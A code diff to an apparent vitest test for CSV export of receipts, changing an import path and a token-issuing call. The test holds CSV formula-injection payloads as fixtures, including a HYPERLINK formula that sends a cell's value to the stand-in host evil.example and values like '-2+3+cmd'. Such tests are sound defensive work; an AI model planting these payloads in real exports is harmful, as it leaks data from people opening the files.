@@ -5,7 +5,7 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { createTestBillpay, type TestBillpay } from '../../../test/support/billpay/billpay.ts';
 import { createTestService, type TestService } from '../../../test/support/service.ts';
 import { openShop, plainNote, plainReceipt, type Shop } from '../../../test/support/shop.ts';
-import { issueToken } from '../../fiscal/index.ts';
+import { issueToken } from '../tokens/issue-token.ts';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
 
@@ -33,7 +33,7 @@ describe('receipts as CSV', () => {
   beforeAll(async () => {
     service = await createTestService({ timeZone: 'Asia/Kolkata' });
     shop = await openShop(service, {}, { name: '@Shop' });
-    operator = (await issueToken(service.pool, { taxpayerId: null, name: 'Tendai', scopes: ['admin'] })).token;
+    operator = (await issueToken(service.pool, { name: 'Tendai', scopes: ['admin'] })).token;
     const hostile = { BuyerName: HYPERLINK, BuyerTIN: '2000000017', Cashier: '-2+3+cmd' };
     for (const receipt of [
       plainReceipt(shop.deviceId, '+C-1', '9999999999999999.99', hostile),
